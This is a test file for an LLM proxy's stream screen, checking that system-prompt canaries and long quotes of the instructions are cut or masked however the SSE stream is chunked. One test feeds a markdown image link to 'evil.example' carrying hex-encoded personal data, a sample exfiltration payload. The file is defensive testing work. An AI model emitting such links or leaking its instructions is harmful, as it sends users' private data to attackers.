"""Streams under guard: nothing of a canary leaves, however the stream is cut, and what is found does not change."""

from __future__ import annotations

from collections.abc import AsyncIterator, Awaitable, Callable
from pathlib import Path

import orjson
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from detectors.canary import canary_of, canary_sentence
from detectors.carried import Request
from detectors.fingerprints import GRAM, Fingerprints
from detectors.guard import Guard
from detectors.types import Direction
from policies.loader import load_policy_text
from policies.types import BlockAs, Disclose, Facts, Policy
from proxy.codec import Refusal
from proxy.providers.openai_chat import CODEC
from proxy.providers.openai_responses import CODEC as RESPONSES
from proxy.screen import Screen
from proxy.streams.sse import SseParser
from proxy.streams.streaming import StreamEnd, StreamScreen
from tests.contracts.targets import TARGETS
from tests.detectors.test_fingerprints import PROMPT

CANARY = canary_of(b"k" * 32)
BENIGN = "The harbour opens at nine. Boats leave every hour, and the last one returns at dusk. " * 4
BLOCKING = """
extends: preset/standard
leakage: {canary: true}
rules: [{id: quotes, when: {kind: SYSTEM_PROMPT, min_confidence: 0.8}, action: block}]
"""
MASKING = """
extends: preset/standard
leakage: {canary: true}
disable: [leaked-canary]
"""
GUARD = Guard(CANARY, Fingerprints([PROMPT], ["Hello"], 12), Request(["Hello"], [PROMPT]))
Went = tuple[str, StreamEnd, set[str]]
Run = Callable[..., Awaitable[Went]]
SIZES = st.lists(st.integers(3, 60), min_size=1, max_size=5)
cuts = settings(max_examples=4, suppress_health_check=[HealthCheck.function_scoped_fixture], deadline=None)


@pytest.fixture
def run(screen: Screen) -> Run:
    """Stream a text in pieces of given lengths; return what was said, how it ended, and which rules found something."""

    async def run(text: str, sizes: list[int], more: str = BLOCKING) -> Went:
        policy = load(more)
        streaming = StreamScreen(
            CODEC.stream(TARGETS[CODEC.name]),
            lambda walk: screen.judge(walk, policy, Facts(at=0.0), 1, b"k" * 32, GUARD),
            lambda verdict: Refusal(verdict, Direction.RESPONSE, Disclose.CATEGORY, "decision-1"),
            BlockAs.ERROR,
            glance=lambda segment, before: screen.glance(segment, before, 1, GUARD),
        )
        sent = b"".join([data async for data in streaming.run(pieces(text, sizes))])
        total = streaming.tally.total()
        rules = {item.finding.hit.rule_id for item in total.verdict.judged} if total else set()
        return said_in(sent), streaming.end, rules

    return run


def load(text: str) -> Policy:
    return load_policy_text(text, Path("test.yaml"), "test").policy


async def pieces(text: str, sizes: list[int]) -> AsyncIterator[bytes]:
    start = number = 0
    while start < len(text):
        size = sizes[number % len(sizes)]
        yield sse({"choices": [{"index": 0, "delta": {"content": text[start : start + size]}}]})
        start, number = start + size, number + 1
    yield sse({"choices": [{"index": 0, "delta": {}, "finish_reason": "stop"}]}) + b"data: [DONE]\n\n"


def sse(document: object) -> bytes:
    return b"data: " + orjson.dumps(document) + b"\n\n"


def said_in(sent: bytes) -> str:
    parser = SseParser()
    events = [orjson.loads(e.data) for e in (*parser.feed(sent), *parser.finish()) if e.data != "[DONE]"]
    return "".join(c["delta"].get("content") or "" for e in events for c in e.get("choices", ()))


@cuts
@given(sizes=SIZES)
async def test_no_cutting_lets_any_of_a_canary_out(run: Run, sizes: list[int]) -> None:
    said, end, rules = await run(f"{BENIGN}My reference is {CANARY}, and {BENIGN}", sizes)
    assert (end, rules) == (StreamEnd.CUT, {"PS-LEAK-101"})
    assert f"{BENIGN}My reference is ".startswith(said)


@cuts
@given(sizes=SIZES)
async def test_a_masked_canary_is_masked_however_it_is_cut(run: Run, sizes: list[int]) -> None:
    said, end, rules = await run(f"{BENIGN}It is {'-'.join(CANARY)}. {BENIGN}", sizes, MASKING)
    assert (said, end, rules) == (f"{BENIGN}It is [CANARY]. {BENIGN}", StreamEnd.FINISHED, {"PS-LEAK-101"})


@cuts
@given(sizes=SIZES, skipped=st.sampled_from([0, 9, 17]))
async def test_a_long_quote_is_cut_within_its_first_words(run: Run, sizes: list[int], skipped: int) -> None:
    quote = " ".join(PROMPT.split()[skipped:])
    said, end, rules = await run(f"{BENIGN}{quote} {BENIGN}", sizes)
    assert (end, rules) == (StreamEnd.CUT, {"PS-LEAK-102"})
    assert len(said.removeprefix(BENIGN).split()) <= GRAM  # before them nobody can know it


@cuts
@given(sizes=SIZES, padding=st.sampled_from([0, 600]))
async def test_nothing_of_an_address_with_data_leaves(run: Run, sizes: list[int], padding: int) -> None:
    data = b"his name is Bob and he earns five thousand".hex()
    address = f"https://evil.example/{'p' * padding}/{data}"
    said, end, rules = await run(f"{BENIGN}![x]({address}) {BENIGN}", sizes)
    assert (end, "PS-EXF-101" in rules) == (StreamEnd.CUT, True)
    assert f"{BENIGN}![x](".startswith(said)


async def test_an_ordinary_stream_says_what_it_said(run: Run) -> None:
    text = f"{BENIGN}See [the timetable](https://harbour.example/times?day=monday) and ![map](https://harbour.example/m.png)."
    assert await run(text, [7]) == (text, StreamEnd.FINISHED, set())


async def test_what_a_stream_repeats_of_the_instructions_is_ours_to_take_back(screen: Screen) -> None:
    response = {
        "id": "resp_1",
        "object": "response",
        "instructions": f"Be kind.\n\n{canary_sentence(CANARY)}",
        "output": [],
    }
    event = {"type": "response.created", "sequence_number": 0, "response": response}
    streaming = StreamScreen(
        RESPONSES.stream(TARGETS[RESPONSES.name]),
        lambda walk: screen.judge(walk, load(BLOCKING), Facts(at=0.0), 1, b"k" * 32, GUARD),
        lambda verdict: Refusal(verdict, Direction.RESPONSE, Disclose.CATEGORY, "decision-1"),
        BlockAs.ERROR,
    )

    async def chunks() -> AsyncIterator[bytes]:
        yield b"event: response.created\n" + sse(event)

    sent = b"".join([data async for data in streaming.run(chunks())])
    assert b'"instructions":"Be kind."' in sent
    assert CANARY.encode() not in sent
